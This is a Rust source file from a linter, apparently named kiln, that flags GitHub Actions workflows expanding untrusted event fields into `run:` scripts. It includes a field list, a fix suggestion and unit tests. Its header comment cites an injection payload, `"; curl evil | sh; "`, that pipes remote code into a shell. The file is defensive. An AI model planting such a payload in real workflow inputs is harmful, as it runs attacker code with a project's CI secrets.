//! Script injection: an expression over untrusted event data (a commit message, a branch
//! name, a pull request's title) expanded straight into a `run:` script is pasted into the
//! shell before it runs, so a commit message such as `"; curl evil | sh; "` runs commands
//! with the job's secrets. GitHub's "Security hardening for GitHub Actions" lists these fields;
//! the fix it recommends is an intermediate environment variable:
//!
//! ```yaml
//! - env:
//!     MESSAGE: ${{ github.event.head_commit.message }}
//!   run: echo "$MESSAGE"
//! ```
//!
//! kiln refuses such a workflow (an error, not a warning): pipelines on push run by
//! themselves, with the secrets of the stack, on whatever anyone pushed, so there is no safe
//! moment to ignore it. The same expression under `env:`, `with:` or `if:` is fine.

use kiln_expr::ParseOptions;
use kiln_expr::Template;
use kiln_spec::diag::{Code, Diagnostic};

use crate::workflow::Text;

/// Fields under `github.` that someone outside the repository's writers controls. A reference
/// is untrusted when its path starts with one of these (`*` matches any one name).
const UNTRUSTED: &[&str] = &[
    "head_ref",
    "event.issue.title",
    "event.issue.body",
    "event.pull_request.title",
    "event.pull_request.body",
    "event.pull_request.head.ref",
    "event.pull_request.head.label",
    "event.pull_request.head.repo.default_branch",
    "event.comment.body",
    "event.review.body",
    "event.review_comment.body",
    "event.discussion.title",
    "event.discussion.body",
    // `commits.*.message`, `pages.*.page_name`: a reference's path stops at `*` or an index,
    // so any reference to these lists is one to their untrusted fields.
    "event.commits",
    "event.pages",
    "event.head_commit.message",
    "event.head_commit.author.email",
    "event.head_commit.author.name",
    "event.workflow_run.head_branch",
    "event.workflow_run.head_commit.message",
    "event.workflow_run.head_commit.author.email",
    "event.workflow_run.head_commit.author.name",
];

/// The injection risks in a `run:` script at `path`; `source` is the file's text, to place
/// each one exactly even inside a block scalar.
pub(crate) fn check(
    text: &Text,
    path: &str,
    source: &str,
    opts: &ParseOptions<'_>,
) -> Vec<Diagnostic> {
    let Ok(template) = Template::parse(&text.text, opts) else {
        return Vec::new();
    };
    let raw = source.get(text.span.start..text.span.end).unwrap_or("");
    template
        .references()
        .into_iter()
        .filter(|r| is_untrusted(&r.path))
        .map(|r| {
            let field = r.path.join(".");
            let written = text.text.get(r.offset..r.offset + r.len).unwrap_or(&field);
            let span = locate(raw, &text.text, r.offset, written)
                .map_or(text.span, |start| text.span.sub(start, written.len()));
            let var = env_name(&r.path);
            Diagnostic::new(
                Code::InjectionRisk,
                span,
                path,
                format!("`{field}` is untrusted input expanded into the script: its text would run as shell code"),
            )
            .label("untrusted input in `run:`")
            .help(format!(
                "pass it through the environment: add `env: {{ {var}: ${{{{ {field} }}}} }}` to the step and use \"${var}\" in the script"
            ))
        })
        .collect()
}

fn is_untrusted(path: &[String]) -> bool {
    let Some(("github", rest)) = path.split_first().map(|(h, r)| (h.as_str(), r)) else {
        return false;
    };
    UNTRUSTED.iter().any(|field| {
        let parts: Vec<&str> = field.split('.').collect();
        rest.len() >= parts.len()
            && parts
                .iter()
                .zip(rest)
                .all(|(want, got)| *want == "*" || got.eq_ignore_ascii_case(want))
    })
}

/// Where the `n`-th occurrence of `written` in the processed text is in the raw source: block
/// scalars drop indentation, so offsets differ, but a one-line expression is spelled the same.
fn locate(raw: &str, text: &str, offset: usize, written: &str) -> Option<usize> {
    if written.is_empty() || written.contains('\n') {
        return None;
    }
    let nth = text.get(..offset)?.matches(written).count();
    raw.match_indices(written).nth(nth).map(|(at, _)| at)
}

/// `github.event.head_commit.message` → `HEAD_COMMIT_MESSAGE`.
fn env_name(path: &[String]) -> String {
    let tail: Vec<&str> = path
        .iter()
        .map(String::as_str)
        .filter(|p| !matches!(*p, "github" | "event"))
        .collect();
    let tail = &tail[tail.len().saturating_sub(2)..];
    tail.join("_").to_ascii_uppercase().replace('-', "_")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn path(text: &str) -> Vec<String> {
        text.split('.').map(str::to_owned).collect()
    }

    #[test]
    fn untrusted_fields_are_recognised() {
        for field in [
            "github.head_ref",
            "github.event.head_commit.message",
            "github.event.pull_request.title",
            "github.event.pull_request.head.ref",
            "github.event.commits",
            "github.event.issue.body",
            "github.event.comment.body",
        ] {
            assert!(is_untrusted(&path(field)), "{field}");
        }
        for field in [
            "github.sha",
            "github.ref",
            "github.event.head_commit.id",
            "github.event.pull_request.number",
            "env.MESSAGE",
            "steps.x.outputs.y",
        ] {
            assert!(!is_untrusted(&path(field)), "{field}");
        }
        assert_eq!(
            env_name(&path("github.event.head_commit.message")),
            "HEAD_COMMIT_MESSAGE"
        );
        assert_eq!(env_name(&path("github.head_ref")), "HEAD_REF");
    }

    #[test]
    fn a_block_scalar_expression_is_found_in_the_source() {
        let raw = "|\n  echo one\n  echo ${{ github.head_ref }} ${{ github.head_ref }}\n";
        let text = "echo one\necho ${{ github.head_ref }} ${{ github.head_ref }}\n";
        let second = text.rfind("github.head_ref").unwrap_or(0);
        let at = locate(raw, text, second, "github.head_ref");
        assert_eq!(at, raw.rfind("github.head_ref"));
    }
}
